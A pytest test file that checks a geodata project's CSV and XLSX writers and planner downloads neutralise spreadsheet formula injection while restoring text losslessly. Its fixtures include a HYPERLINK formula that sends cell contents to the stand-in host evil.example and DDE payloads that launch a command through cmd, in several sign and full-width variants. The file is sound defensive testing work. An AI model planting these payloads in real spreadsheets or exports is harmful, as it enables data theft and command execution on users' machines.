"""No spreadsheet we write holds a live formula (geo/spreadsheet.py and every writer that uses it)."""

from __future__ import annotations

import csv
import io

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from conftest import make_settings, write_csv
from hypothesis import given, strategies as st

from geo.coverage.export import write_table
from geo.index.synthetic import offers_frame
from geo.spreadsheet import SafeCsvWriter, is_formula_like, neutralise, neutralise_frame, restore
from geo.store import Store
from test_export import import_rows
from webmap import create_app
from webmap.cli import main

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
DDE = "=cmd|' /C calc'!A0"
PLUS_DDE = "+cmd|' /C calc'!A0"
MINUS_DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, DDE, PLUS_DDE, MINUS_DDE, AT_SUM, "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)", "\uff20SUM(1)",
           "\uff0bcmd|x!A0", "\uff0dcmd|x!A0"]


# -- the rule table -------------------------------------------------------------------------------

@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    (PLUS_DDE, "'" + PLUS_DDE),
    (MINUS_DDE, "'" + MINUS_DDE),
    (AT_SUM, "'" + AT_SUM),
    ("@Initiative", "'@Initiative"),
    ("=Treff am Markt", "'=Treff am Markt"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\nzweite Zeile", "'\nzweite Zeile"),
    ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),  # full-width = (Excel in East Asian locales)
    ("\uff0b1+cmd|x!A0", "'\uff0b1+cmd|x!A0"),
    ("\uff20SUM(1)", "'\uff20SUM(1)"),
    ("-5 Grad draußen", "'-5 Grad draußen"),  # a letter: it could name something
    ("-A1", "'-A1"),  # a cell reference
    ("+1+1", "'+1+1"),  # arithmetic beyond a plain figure
    # figures only: phone numbers, numbers, ranges stay readable
    ("+49 631 3652-0", "+49 631 3652-0"),
    ("+49 (0)631 / 36 52-0", "+49 (0)631 / 36 52-0"),
    ("-5 %", "-5 %"),
    ("-2,5", "-2,5"),
    ("-12.5", "-12.5"),
    ("\uff0b49 631 1234", "\uff0b49 631 1234"),
    # ordinary text, and text that merely contains a sign
    ("Beratung", "Beratung"),
    ("Treff = Café", "Treff = Café"),
    ("0631 5550", "0631 5550"),
    ("", ""),
    ("'Apostroph", "'Apostroph"),
    # our own mark before a formula gets one more, so that import can tell them apart
    ("'=x", "''=x"),
    ("''=x", "'''=x"),
])
def test_rule_table(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, True])
def test_numbers_and_other_values_are_left_alone(value):
    assert neutralise(value) is value


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n\uff1d\uff0b\uff0d\uff20 a1(|!,.%/")), max_size=8)
       | st.text(max_size=12))
def test_restore_undoes_neutralise_for_every_text(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not would_run(written)


def test_frame_keeps_numbers_numbers():
    frame = pd.DataFrame({"name": [HYPERLINK, "Mitte"], "offers": [-3, 4], "share": [-0.5, 0.25]})
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'" + HYPERLINK, "Mitte"]
    assert out["offers"].tolist() == [-3, 4] and out["share"].dtype == float
    assert frame["name"][0] == HYPERLINK  # the caller's frame is not changed


def test_csv_writer_quotes_text_so_a_semicolon_cannot_start_a_cell():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(["Treff;=HYPERLINK(1)", 3, -2.5, None])
    assert buffer.getvalue().strip() == '"Treff;=HYPERLINK(1)",3,-2.5,""'


# -- every writer ---------------------------------------------------------------------------------

ROWS = [["ID", "Name", "Träger", "Beschreibung", "Telefon", "Breitengrad", "Längengrad", "Kategorie"]] + [
    [f"a{i}", attack, "@Träger", "-5 Grad draußen", "+49 631 3652-0", "49,44", "7,75", "Beratung"]
    for i, attack in enumerate(ATTACKS)
]


@pytest.fixture
def deployment(tmp_path, capsys):
    return import_rows(tmp_path, ROWS, "s", capsys)


def offers(path):
    frame = Store(path).offers()
    return frame[["id", "name", "organisation", "description", "phone"]].sort_values("id").to_dict("records")


def test_csv_export_neutralises_and_reimports_losslessly(tmp_path, deployment, capsys):
    out = tmp_path / "e.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--config", str(deployment)]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["name"] for r in rows) == sorted("'" + a.strip() for a in ATTACKS)  # import trims cells
    assert {r["organisation"] for r in rows} == {"'@Träger"}
    assert {r["phone"] for r in rows} == {"+49 631 3652-0"}
    fresh = tmp_path / "fresh.toml"
    fresh.write_text('[store]\npath = "fresh.gpkg"\n', encoding="utf-8")
    assert main(["import", str(out), "--source", "s", "--config", str(fresh)]) == 0
    assert offers(tmp_path / "fresh.gpkg") == offers(tmp_path / "store.gpkg")
    assert {o["name"] for o in offers(tmp_path / "fresh.gpkg")} == {a.strip() for a in ATTACKS}


def would_run(cell: str) -> bool:
    """Whether a spreadsheet opening this CSV cell would evaluate it as a formula."""
    return not cell.startswith("'") and is_formula_like(cell)


def formula_cells(book) -> list[str]:
    return [f"{sheet.title}!{c.coordinate}" for sheet in book for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


def test_xlsx_export_writes_text_cells_and_reimports_losslessly(tmp_path, deployment):
    out = tmp_path / "e.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(out), "--config", str(deployment)]) == 0
    book = openpyxl.load_workbook(out)
    assert not formula_cells(book)
    names = {c.value: c for row in book.active.iter_rows(min_row=2) for c in row if c.column == 2}
    assert set(names) == {a.strip() for a in ATTACKS}  # the text itself, no visible apostrophe
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in names.values())
    fresh = tmp_path / "fresh.toml"
    fresh.write_text('[store]\npath = "fresh.gpkg"\n', encoding="utf-8")
    assert main(["import", str(out), "--source", "s", "--config", str(fresh)]) == 0
    assert offers(tmp_path / "fresh.gpkg") == offers(tmp_path / "store.gpkg")


def test_import_report_neutralises_the_values_it_quotes(tmp_path, capsys):
    cfg = tmp_path / "c.toml"
    cfg.write_text('[store]\npath = "store.gpkg"\n', encoding="utf-8")
    write_csv(tmp_path / "l.csv", f"Name;Kategorie;Breitengrad;Längengrad\nA;{DDE};49,44;7,75\n")
    assert main(["import", str(tmp_path / "l.csv"), "--config", str(cfg), "--report", str(tmp_path / "r.csv")]) == 1
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as fh:
        values = [r["value"] for r in csv.DictReader(fh)]
    assert "'" + DDE in values and DDE not in values


def test_geocode_output_neutralises_the_input_columns(tmp_path, capsys):
    from test_geocoding_cli import write_config
    from test_geocoding_gazetteer import write_town_extract

    config = write_config(tmp_path)
    assert main(["gazetteer", "build", str(write_town_extract(tmp_path)), "--config", str(config)]) == 0
    write_csv(tmp_path / "in.csv", f"Name;Straße;Hausnummer;PLZ\n{HYPERLINK};Marktstraße;5;67655\n")
    assert main(["geocode", str(tmp_path / "in.csv"), "--out", str(tmp_path / "o.csv"), "--config", str(config)]) == 0
    with open(tmp_path / "o.csv", encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["Name"] == "'" + HYPERLINK and row["status"] == "ok"
    # the output read as input again (a second run) gives the names back unchanged
    assert main(["geocode", str(tmp_path / "o.csv"), "--out", str(tmp_path / "o2.csv"), "--config", str(config)]) == 0
    with open(tmp_path / "o2.csv", encoding="utf-8-sig", newline="") as fh:
        assert next(csv.DictReader(fh))["Name"] == "'" + HYPERLINK


# -- the planner's tables and downloads -----------------------------------------------------------

def districts() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"district_id": ["d1", "d2"], "name": [HYPERLINK, "-Süd"]},
        geometry=[shapely.box(7.75, 49.44, 7.80, 49.46), shapely.box(7.70, 49.40, 7.76, 49.44)], crs=4326)


def test_coverage_tables_neutralise_text_and_keep_numbers(tmp_path):
    table = pd.DataFrame({"district_id": ["d1", "d2"], "district": [HYPERLINK, "-Süd"], "category": ["doctor"] * 2,
                          "offers": [2, 0], "e2sfca_vs_town": [-0.25, 0.5]})
    write_table(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert back["district"].tolist() == ["'" + HYPERLINK, "'-Süd"]
    assert back["e2sfca_vs_town"].tolist() == [-0.25, 0.5]
    write_table(table, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert not formula_cells(book)
    sheet = book.worksheets[0]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0][1] == HYPERLINK and sheet.cell(row=2, column=2).quotePrefix
    assert values[0][4] == -0.25 and sheet.cell(row=2, column=5).data_type == "n"


@pytest.fixture
def planner(tmp_path):
    settings = make_settings(tmp_path)
    Store(settings.store_path).write(
        offers=offers_frame([dict(id="b1", name="Beratung", category="counselling", lat=49.445, lon=7.765),
                             dict(id="b2", name=DDE, category="counselling", lat=49.42, lon=7.72)]),
        districts=districts(),
        population=pd.DataFrame({"district_id": ["d1", "d2"], "population": [9000.0, 4000.0]}))
    return create_app(settings, TESTING=True).test_client()


@pytest.mark.parametrize("url", ["/planung/download.xlsx", "/planung/gaps.xlsx"])
def test_planner_xlsx_downloads_hold_no_formula(planner, url):
    response = planner.get(url)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert not formula_cells(book)
    texts = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert HYPERLINK in texts


@pytest.mark.parametrize("url", ["/planung/download.csv", "/planung/gaps.csv"])
def test_planner_csv_downloads_neutralise_district_names(planner, url):
    response = planner.get(url)
    assert response.status_code == 200
    text = response.data.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if would_run(cell)]
